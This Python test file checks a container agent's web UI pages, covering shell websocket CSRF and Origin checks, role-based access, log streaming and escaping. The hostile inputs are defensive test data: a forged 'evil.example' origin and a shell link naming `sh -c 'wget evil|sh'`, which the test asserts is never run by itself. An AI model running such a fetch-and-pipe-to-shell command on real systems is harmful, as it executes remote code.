"""The UI's pages of logs, shell, events, overlay matrix, topology and drills, on the agent's real app:
who may open each (as the API route it mirrors), what they show, and the shell's websocket checks (a
forged Origin, a missing or foreign CSRF token, a read-only role: a 403 and nothing executed)."""

from __future__ import annotations

import asyncio
import json
import re
from collections.abc import AsyncIterator
from typing import Any

import aiohttp
import pytest

from agent.api import exec_wire as wire
from agent.api.drills import REPORT_KEY
from agent.model.commands import KvPut
from agent.model.entities import EventKind
from agent.ui import guard
from agent.ui import logs as ui_logs
from tests.unit.fakes import ADMIN_PASSWORD, FakeContainers, running_api, running_pair
from tests.unit.test_exec import running_container
from tests.unit.test_ui import Browser

E = "\x1b"


@pytest.fixture
async def ui() -> AsyncIterator[Browser]:
    async with running_api() as h, aiohttp.ClientSession() as session:
        yield Browser(h, session)


async def user(ui: Browser, name: str, role: str) -> Browser:
    """Another browser, logged in as a new user with ``role`` in the default environment."""
    async with aiohttp.ClientSession(headers=ui.h.auth) as admin:
        async with admin.post(ui.h.url + "/v1/users", json={"name": name, "password": ADMIN_PASSWORD}) as resp:
            assert resp.status == 201, await resp.text()
        if role != "none":
            async with admin.put(ui.h.url + f"/v1/environments/default/members/user:{name}",
                                 json={"role": role}) as resp:
                assert resp.status == 200, await resp.text()
    other = Browser(ui.h, ui.session)
    assert (await other.login(name)).status == 303
    return other


async def sse_events(ui: Browser, path: str, until: str, limit: int = 50) -> list[tuple[str, str]]:
    """The (event, data) of a server-sent stream, read until an event named ``until``."""
    headers = {"Cookie": "; ".join(f"{k}={v}" for k, v in ui.cookies.items())}
    got: list[tuple[str, str]] = []
    async with ui.session.get(ui.h.url + path, headers=headers, timeout=aiohttp.ClientTimeout(total=10)) as resp:
        assert resp.status == 200 and resp.content_type == "text/event-stream", (resp.status, await resp.text())
        event, data = "message", []
        async for raw in resp.content:
            line = raw.decode().rstrip("\n")
            if line.startswith("event: "):
                event = line[7:]
            elif line.startswith("data: "):
                data.append(line[6:])
            elif line == "" and (data or event != "message"):
                got.append((event, "\n".join(data)))
                if event == until or len(got) >= limit:
                    break
                event, data = "message", []
    return got


async def logged_container(ui: Browser) -> str:
    inst = await running_container(ui.h)
    container = ui.h.engine.containers_by_id[ui.h.replica.state.instances[inst].container_id or ""]
    container.logs = ["plain line\n", f"{E}[1;31merror{E}[0m <b>not bold</b>\n"]
    return inst


# ---------------------------------------------------------------------- logs


async def test_the_logs_page_and_its_stream_in_colour(ui: Browser) -> None:
    inst = await logged_container(ui)
    await ui.login()
    page = await ui.request("GET", f"/containers/{inst}/logs")
    text = await page.text()
    assert page.status == 200 and "web-nginx-1" in text and f"/containers/{inst}/logs/stream?tail=500" in text
    assert f"/containers/{inst}/shell" in text, "the admin may open a shell: the link is there"
    events = await sse_events(ui, f"/containers/{inst}/logs/stream", "end")
    lines = "".join(d for e, d in events if e == "lines")
    assert "plain line" in lines and '<span class="ansi-bold ansi-fg-1">error</span>' in lines
    assert "&lt;b&gt;not bold&lt;/b&gt;" in lines and "<b>" not in lines
    assert events[-1][0] == "end"
    events = await sse_events(ui, f"/containers/{inst}/logs/stream?tail=1", "end")
    assert "plain line" not in "".join(d for e, d in events if e == "lines"), "the API's tail"


async def test_who_may_see_logs_is_who_may_read_the_container(ui: Browser) -> None:
    inst = await logged_container(ui)
    reader = await user(ui, "reader", "read-only")
    page = await reader.request("GET", f"/containers/{inst}/logs")
    assert page.status == 200 and f"/containers/{inst}/shell" not in await page.text(), "no shell link for it"
    assert any(e == "lines" for e, _ in await sse_events(reader, f"/containers/{inst}/logs/stream", "end"))
    stranger = await user(ui, "stranger", "none")
    assert (await stranger.request("GET", f"/containers/{inst}/logs")).status == 404
    assert (await stranger.request("GET", f"/containers/{inst}/logs/stream")).status == 404
    assert (await reader.request("GET", f"/containers/{inst}/logs?tail=many")).status == 400
    assert (await ui.request("GET", f"/containers/{inst}/logs/stream")).status == 401, "no session"


async def test_a_log_that_cannot_be_read_says_why_in_the_stream(ui: Browser) -> None:
    inst = await logged_container(ui)
    await ui.login()
    ui.h.engine.containers_by_id.clear()  # the engine lost it
    events = await sse_events(ui, f"/containers/{inst}/logs/stream", "failed")
    assert events[-1][0] == "failed" and "HTTP" in events[-1][1]


# ---------------------------------------------------------------------- shell


async def shell(ui: Browser, inst: str, origin: str | None = "own", csrf: str | None = "own",
                cmd: tuple[str, ...] = ("echo", "hello-42")) -> tuple[int, bytes]:
    """The shell's websocket as a browser opens it: (101 or the refusal's status, the output)."""
    headers = {"Cookie": "; ".join(f"{k}={v}" for k, v in ui.cookies.items())}
    if origin is not None:
        headers["Origin"] = ui.h.url if origin == "own" else origin
    params = [*(("cmd", arg) for arg in cmd), ("tty", "1"), ("interactive", "1")]  # unchecked: the server checks
    if csrf is not None:
        params.append(("csrf", guard.csrf_token(ui.cookies.get(guard.SESSION_COOKIE, "")) if csrf == "own" else csrf))
    out = b""
    async with aiohttp.ClientSession(middlewares=(wire.refused_upgrades,)) as s:
        try:
            async with s.ws_connect(ui.h.url + f"/containers/{inst}/shell/ws", params=params, headers=headers) as ws:
                async for message in ws:
                    if message.type is aiohttp.WSMsgType.BINARY:
                        out += wire.unframe(message.data, (1, 2))[1]
        except wire.UpgradeRefused as exc:
            return exc.status, exc.body
    return 101, out


def execs(ui: Browser) -> list[Any]:
    return [e for e in ui.h.replica.state.events if e.kind is EventKind.CONTAINER_EXEC]


async def test_the_shell_runs_through_the_apis_exec_and_is_audited(ui: Browser) -> None:
    inst = await running_container(ui.h)
    await ui.login()
    page = await ui.request("GET", f"/containers/{inst}/shell")
    text = await page.text()
    assert page.status == 200 and f'data-shell-ws="/containers/{inst}/shell/ws"' in text
    nonce = re.search(r'data-style-nonce="([^"]+)"', text)
    assert nonce and f"style-src 'self' 'nonce-{nonce.group(1)}'" in page.headers["Content-Security-Policy"]
    assert "unsafe" not in page.headers["Content-Security-Policy"] and " style=" not in text
    assert (await ui.request("GET", "/")).headers["Content-Security-Policy"] == guard.CSP, "the nonce is this page's"
    status, out = await shell(ui, inst)
    assert status == 101 and out == b"hello-42\n"
    (event,) = execs(ui)
    assert event.actor == "admin" and event.refs["command"] == "echo hello-42" and event.refs["tty"] == "1"
    assert event.credential == ui.cookies[guard.SESSION_COOKIE].split("_")[1], "the session is the credential"


@pytest.mark.parametrize(("origin", "csrf", "check"), [
    ("https://evil.example", "own", "origin"),
    ("null", "own", "origin"),
    (None, "own", "origin"),
    ("own", None, "csrf"),
    ("own", "A" * 43, "csrf"),
    ("own", guard.csrf_token("crl_another_session"), "csrf"),
])
async def test_a_cross_site_or_tokenless_shell_is_403_and_runs_nothing(ui: Browser, origin: str | None,
                                                                       csrf: str | None, check: str) -> None:
    inst = await running_container(ui.h)
    await ui.login()
    status, body = await shell(ui, inst, origin=origin, csrf=csrf)
    assert status == 403 and json.loads(body)["details"]["check"] == check
    assert ui.h.engine.execs == [] and execs(ui) == [], "nothing executed, nothing recorded"


async def test_a_read_only_role_gets_no_shell(ui: Browser) -> None:
    inst = await running_container(ui.h)
    reader = await user(ui, "reader", "read-only")
    page = await reader.request("GET", f"/containers/{inst}/shell")
    assert page.status == 403 and "deploy" in await page.text()
    status, body = await shell(reader, inst)
    assert status == 403 and json.loads(body)["error"] == "forbidden"
    stranger = await user(ui, "stranger", "none")
    assert (await shell(stranger, inst))[0] == 404
    assert (await shell(Browser(ui.h, ui.session), inst))[0] == 401, "no session"
    assert ui.h.engine.execs == [] and execs(ui) == []
    restricted = await user(ui, "deployer", "restricted")  # may deploy, as corral exec needs
    assert (await shell(restricted, inst))[0] == 101 and len(execs(ui)) == 1


async def test_the_apis_exec_rules_hold_for_the_shell(ui: Browser) -> None:
    inst = await running_container(ui.h)
    await ui.login()
    status, body = await shell(ui, inst, cmd=("",))
    assert status == 400 and json.loads(body)["details"]["field"] == "cmd"
    assert execs(ui) == []


# ---------------------------------------------------------------------- events


async def test_the_events_page_filters_and_follows(ui: Browser) -> None:
    await running_container(ui.h)
    await ui.login()
    text = await (await ui.request("GET", "/events")).text()
    assert "stack.created" in text and "service.created" in text and 'data-events-stream="/events/stream?after=' in text
    only = await (await ui.request("GET", "/events?kind=stack.created")).text()
    assert "stack.created" in only and "<code>service.created</code>" not in only
    audit = await (await ui.request("GET", "/events?audit=1")).text()
    assert "<code>instance.placed</code>" not in audit, "an agent's own event is not a user's request"
    assert (await ui.request("GET", "/events?kind=nonsense")).status == 400
    assert (await ui.request("GET", "/events?before=x")).status == 400
    stream = re.search(r'data-events-stream="([^"]+)"', text)
    assert stream
    await ui.h.replica.write(KvPut("k", b"v"))  # an event (a write) after the page was drawn
    async with aiohttp.ClientSession(headers=ui.h.auth) as admin, \
            admin.post(ui.h.url + "/v1/stacks", json={"name": "later"}) as resp:
        assert resp.status == 201
    got = await sse_events(ui, stream.group(1).replace("&amp;", "&"), "row", limit=20)
    rows = [d for e, d in got if e == "row"]
    assert rows and "stack.created" in rows[-1] and "later" in rows[-1] and 'class="fresh"' in rows[-1]


async def test_events_of_an_environment_one_cannot_read_are_not_shown(ui: Browser) -> None:
    await running_container(ui.h)  # in default
    stranger = await user(ui, "stranger", "none")
    text = await (await stranger.request("GET", "/events")).text()
    rows = text.split('id="events-rows"')[1].split("</tbody>")[0]
    assert "<code>service.created</code>" not in rows and "<code>stack.created</code>" not in rows
    assert "web/nginx" not in rows


# ---------------------------------------------------------------------- overlay, topology, drills


async def test_the_overlay_matrix_asks_every_host(ui: Browser) -> None:
    await ui.login()
    text = await (await ui.request("GET", "/overlay")).text()
    assert 'data-host="h1"' in text and "off" in text, "the harness's one host, its overlay off"
    frag = await ui.request("GET", "/overlay/fragment")
    assert frag.status == 200 and 'data-host="h1"' in await frag.text()
    stranger = await user(ui, "stranger", "none")
    assert 'data-host="h1"' not in await (await stranger.request("GET", "/overlay")).text()


async def test_the_topology_page_of_a_stack(ui: Browser) -> None:
    await running_container(ui.h)
    stack = next(iter(ui.h.replica.state.stacks.values()))
    await ui.login()
    page = await ui.request("GET", f"/stacks/{stack.id}/topology")
    text = await page.text()
    assert page.status == 200 and "<svg" in text and 'data-key="web/nginx"' in text and "h1 1/1" in text
    assert (await ui.request("GET", "/stacks/web/topology")).status == 200, "by name too"
    frag = await ui.request("GET", f"/stacks/{stack.id}/topology/fragment")
    assert frag.status == 200 and "<svg" in await frag.text()
    stranger = await user(ui, "stranger", "none")
    assert (await stranger.request("GET", f"/stacks/{stack.id}/topology")).status == 404
    assert (await stranger.request("GET", f"/stacks/{stack.id}/topology/fragment")).status == 404


async def test_the_drill_page_shows_the_last_report(ui: Browser) -> None:
    await ui.login()
    assert "No drill report yet" in await (await ui.request("GET", "/drills")).text()
    report = {"seed": 9, "hosts": 4, "started": 1.8e9, "finished": 1.8e9 + 120, "drills": [
        {"name": "leader-kill", "verdict": "PASS", "action": "kill the leader", "expect": "a new one",
         "happened": ["elected in 1.1 s"], "figures": {"business_failed": 0, "business_sent": 300}},
        {"name": "partition", "verdict": "FAIL", "reason": "<script>took 9 s", "happened": [], "figures": {}}]}
    async with aiohttp.ClientSession(headers=ui.h.auth) as admin, \
            admin.put(ui.h.url + "/v1/drills/report", json=report) as resp:
        assert resp.status == 200
    text = await (await ui.request("GET", "/drills")).text()
    assert "1 of 2 passed" in text and "seed 9" in text and "elected in 1.1 s" in text and "0/300" in text
    assert "&lt;script&gt;took 9 s" in text and "<script>took" not in text and "took 2.0 min" in text
    stranger = await user(ui, "stranger", "none")
    assert (await stranger.request("GET", "/drills")).status == 403, "read in default, as the API route"
    await ui.h.replica.write(KvPut(REPORT_KEY, b"{}"))  # a report of another shape (older code): not a 500
    assert (await ui.request("GET", "/drills")).status == 200


async def test_the_navigation_has_the_new_pages(ui: Browser) -> None:
    await ui.login()
    text = await (await ui.request("GET", "/")).text()
    for path in ("/events", "/overlay", "/drills"):
        assert f'href="{path}"' in text


async def test_the_login_redirect_keeps_every_query_parameter(ui: Browser) -> None:
    resp = await ui.request("GET", "/containers?service=web&host=h2&state=running")
    assert resp.status == 303
    assert resp.headers["Location"] == "/login?next=/containers?service=web%26host=h2%26state=running"
    resp = await ui.request("POST", "/login", {"user": "admin", "password": ADMIN_PASSWORD,
                                               "next": "/containers?service=web&host=h2&state=running"})
    assert resp.headers["Location"] == "/containers?service=web&host=h2&state=running"


async def test_a_shell_on_another_hosts_container_is_relayed_there_and_its_logs_too() -> None:
    """The browser talks to h2; the container runs on h1: the exec goes to h1's API route (not the UI's)."""
    async with running_pair() as (h1, h2), aiohttp.ClientSession() as session:
        inst = await running_container(h1, host="h1")
        h1.engine.containers_by_id[h1.replica.state.instances[inst].container_id or ""].logs = ["from h1\n"]
        await h2.replica.wait_applied(h1.replica.applied_index, 5)
        browser = Browser(h2, session)
        assert (await browser.login()).status == 303
        status, out = await shell(browser, inst, cmd=("echo", "relayed"))
        assert status == 101 and out == b"relayed\n"
        assert h1.engine.execs and not h2.engine.execs, "run by the container's host's engine"
        events = await sse_events(browser, f"/containers/{inst}/logs/stream", "end")
        assert "from h1" in "".join(d for e, d in events if e == "lines")


async def test_a_followed_log_stops_when_the_session_ends(ui: Browser, monkeypatch: pytest.MonkeyPatch) -> None:
    inst = await running_container(ui.h)
    more = asyncio.Event()

    async def follow(self: FakeContainers, container_id: str, tail: int | None, follow: bool) -> AsyncIterator[str]:
        yield "before\n"
        await more.wait()
        yield "after the logout\n"
        await asyncio.Event().wait()  # and nothing more: a followed log

    monkeypatch.setattr(FakeContainers, "logs", follow)
    monkeypatch.setattr(ui_logs, "SESSION_CHECK", 0.0)
    await ui.login()
    headers = {"Cookie": "; ".join(f"{k}={v}" for k, v in ui.cookies.items())}
    got: list[str] = []
    async with ui.session.get(ui.h.url + f"/containers/{inst}/logs/stream", headers=headers,
                              timeout=aiohttp.ClientTimeout(total=10)) as resp:
        async for raw in resp.content:
            line = raw.decode().strip()
            got.append(line)
            if line == "data: before":
                assert (await ui.request("POST", "/logout", {"csrf_token": guard.csrf_token(
                    ui.cookies[guard.SESSION_COOKIE])})).status == 303
                more.set()
            if line.startswith("data: your session ended"):
                break
    assert "data: after the logout" not in got and got[-1].startswith("data: your session ended")


# ---------------------------------------------------------------------- found in review


async def test_a_shell_link_naming_a_command_does_not_run_it_by_itself(ui: Browser) -> None:
    """A link (sent to someone, or through the login's ``next=``) can name any command: the page opens
    only the default shell by itself and fills the named command into the form, for the person to run."""
    inst = await running_container(ui.h)
    await ui.login()
    plain = await (await ui.request("GET", f"/containers/{inst}/shell")).text()
    assert 'data-command="sh" data-autostart="1"' in plain
    named = await ui.request("GET", f"/containers/{inst}/shell?cmd=sh%20-c%20'wget%20evil|sh'")
    text = await named.text()
    assert named.status == 200 and 'data-autostart="0"' in text and "press Open to run this command" in text
    assert "value=\"sh -c &#39;wget evil|sh&#39;\"" in text, "shown, escaped, in the form"
    assert not execs(ui), "opening the pages ran nothing"


def test_the_events_streams_address_keeps_each_filter_whole() -> None:
    from agent.ui.events import Filter

    query = Filter(kind="service.scaled", audit=True, user="a&kind=x", environment=None).query()
    assert query == "kind=service.scaled&audit=1&user=a%26kind%3Dx"


def test_a_carriage_return_cannot_end_a_server_sent_event_early() -> None:
    sent = ui_logs.sse("row", "one\rid: 9\r\nevent: session\ntwo")
    assert sent == b"event: row\ndata: one\ndata: id: 9\ndata: event: session\ndata: two\n\n"
